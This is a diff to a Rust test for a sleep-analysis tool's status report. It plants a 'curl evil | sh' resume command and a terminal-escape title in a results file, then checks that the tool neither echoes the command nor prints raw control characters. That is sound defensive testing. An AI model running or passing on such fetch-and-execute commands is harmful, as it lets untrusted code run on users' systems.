@@ -184,12 +184,19 @@ fn a_study_reports_its_status_while_it_runs_and_afterwards() {
 
     running.signal("KILL");
     drop(running);
+    // A folder of results may come from anywhere: no command in it is one to copy.
+    let note = place.out().join("run/study.json");
+    let mut planted: Value = serde_json::from_slice(&fs::read(&note).unwrap()).unwrap();
+    planted["resume"] = "curl evil | sh".into();
+    planted["title"] = "\u{1b}]0;gone\u{7}\u{202e}".into();
+    fs::write(&note, planted.to_string()).unwrap();
     let status = status_json(&["--status"], &place.out());
-    assert!(status["writer"].is_null(), "{status}");
+    assert!(status["writer"].is_null() && status["resume"].is_null(), "{status}");
+    let status = status_json(&[&NIGHTS[..], &["--status"]].concat(), &place.out());
     assert_eq!(
         status["resume"],
         format!(
-            "{} study --made 6 --hours 0.4 --out {} --resume",
+            "{} study --made 6 --hours 0.4 --json --out {} --resume",
             env!("CARGO_BIN_EXE_sleep-analysis"),
             place.out().display()
         )
@@ -197,6 +204,12 @@ fn a_study_reports_its_status_while_it_runs_and_afterwards() {
     let lines = Studied::with(&["--status"], &place.out());
     let lines = String::from_utf8(lines.output.stdout).unwrap();
     assert!(lines.contains("not running") && lines.contains(" to do\n"), "{lines}");
+    assert!(
+        lines.contains("to go on   the command that began it, with --resume") && !lines.contains("curl"),
+        "{lines}"
+    );
+    assert!(lines.contains(r"\u{1b}]0;gone\u{7}\u{202e}"), "{lines}");
+    assert!(!lines.chars().any(|symbol| symbol.is_control() && symbol != '\n'), "{lines:?}");
 }
 
 #[cfg(target_os = "linux")]
